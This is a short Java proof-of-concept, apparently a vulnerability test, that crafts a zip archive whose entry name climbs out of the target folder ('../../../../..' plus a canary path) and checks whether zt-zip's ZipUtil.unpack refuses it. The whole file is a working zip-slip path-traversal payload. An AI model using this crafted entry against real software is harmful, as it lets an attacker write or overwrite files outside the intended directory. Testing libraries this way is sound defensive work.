// An archive whose one entry leads out of the folder it is unpacked in.
import java.io.*;
import java.util.zip.*;
import org.zeroturnaround.zip.ZipUtil;

public class Poc {
    public static void main(String[] none) throws Exception {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream archive = new ZipOutputStream(bytes)) {
            archive.putNextEntry(new ZipEntry("../../../../.." + System.getenv("PROOF_CANARY_WRITE")));
            archive.write('x');
        }
        File folder = new File("out");
        folder.mkdir();
        try {
            ZipUtil.unpack(new ByteArrayInputStream(bytes.toByteArray()), folder);
        } catch (RuntimeException refused) {
            System.out.println("refused");
        }
    }
}
